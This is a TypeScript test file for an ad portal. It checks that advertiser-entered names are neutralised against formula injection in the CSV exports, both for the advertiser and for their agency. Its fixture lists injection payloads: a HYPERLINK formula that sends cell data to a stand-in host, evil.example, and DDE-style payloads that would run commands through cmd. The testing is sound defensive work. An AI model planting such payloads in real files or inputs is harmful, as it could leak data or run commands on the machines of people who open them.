import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TestApp } from '../test/app.ts';
import { activateAgencyRole, createAgency, createAgencyTestApp, grantAccess } from '../test/agencies.ts';
import { call, createLineItem, createOrder, registerUser, type RegisteredUser } from '../test/factories.ts';

/**
 * Formula injection (issue 28, item 2): text an advertiser types is written into the CSV files the portal makes, and
 * opened in a spreadsheet by the advertiser or by their agency. No cell may start as a formula. The archive of
 * "Download my data" writes its CSV files with the same writer (packages/domain/src/csv.ts, tested there).
 */

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?c="&A2,"Open report")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+cmd|calc',
  '-2+3+cmd|calc',
];

let t: TestApp;
let client: RegisteredUser;
let agencyToken: string;
let viewAs: string;
let day: string;

/** The cells of a CSV file as a spreadsheet reads them (RFC 4180 quoting undone). */
function cellsOf(csv: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i += 1) {
    const char = csv[i]!;
    if (quoted && char === '"' && csv[i + 1] === '"') {
      cell += '"';
      i += 1;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (!quoted && (char === ',' || char === '\n')) {
      cells.push(cell);
      cell = '';
    } else if (quoted || char !== '\r' || csv[i + 1] !== '\n') {
      cell += char;
    }
  }
  return cells;
}

/** A cell a spreadsheet would evaluate (a plain negative number is a number, not a formula). */
const isFormula = (cell: string) =>
  /^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));

/** No cell of the file starts as a formula; the formulas typed are there, neutralised by a leading `'`. */
function expectNeutralised(csv: string, typed: readonly string[]): void {
  const cells = cellsOf(csv);
  expect(cells.filter(isFormula)).toEqual([]);
  for (const formula of typed) expect(cells).toContain(`'${formula}`);
}

beforeAll(async () => {
  t = await createAgencyTestApp();
  client = await registerUser(t);
  const agencyAdmin = await registerUser(t);
  await createAgency(t, agencyAdmin);
  agencyToken = await activateAgencyRole(t, agencyAdmin);
  viewAs = String(client.user.user_id);
  await grantAccess(t, agencyToken, client);
  day = t.clock.now().toISOString().slice(0, 10);
  for (const [index, formula] of FORMULAS.entries()) {
    const orderId = await createOrder(t, client, { name: formula, notes: `=NOTES()${index}` });
    const lineItemId = await createLineItem(t, client, orderId, { name: formula });
    await t.app.database.db.execute(
      `insert into adserver_daily_stats (line_item_id, day, impressions, clicks) values (${lineItemId}, '${day}', 10, 1)`,
    );
    // A visitor's impressions, for the breakdowns' reach (issue 31).
    await t.app.database.db.execute(
      `insert into adserver_reach (line_item_id, day, creative_id, region, visitor_id, impressions, clicks)
       values (${lineItemId}, '${day}', 7000001, 'CA-QC', 'v${index}', 10, 1)`,
    );
  }
});
afterAll(() => t?.close());

describe('CSV files and formulas', () => {
  it('writes no formula into the metrics CSV, neither for the advertiser nor for their agency', async () => {
    const own = await call(t, 'GET', `/api/v2/metric/orders?from=${day}&to=${day}&format=csv`, {
      token: client.token,
    });
    expect(own.status).toBe(200);
    expectNeutralised(String(own.body), FORMULAS);
    const agency = await call(
      t,
      'GET',
      `/api/v2/metric/orders?from=${day}&to=${day}&format=csv&viewAs=${viewAs}`,
      {
        token: agencyToken,
      },
    );
    expect(agency.status).toBe(200);
    expect(String(agency.body)).toBe(String(own.body));
  });

  it('writes no formula into the breakdowns CSV (campaign names, as groups and beside line items)', async () => {
    for (const by of ['campaign', 'lineItem']) {
      const own = await call(t, 'GET', `/api/v2/metric/breakdown?from=${day}&to=${day}&by=${by}&format=csv`, {
        token: client.token,
      });
      expect(own.status, by).toBe(200);
      expectNeutralised(String(own.body), FORMULAS);
      const agency = await call(
        t,
        'GET',
        `/api/v2/metric/breakdown?from=${day}&to=${day}&by=${by}&format=csv&viewAs=${viewAs}`,
        { token: agencyToken },
      );
      expect(String(agency.body), by).toBe(String(own.body));
    }
  });
});
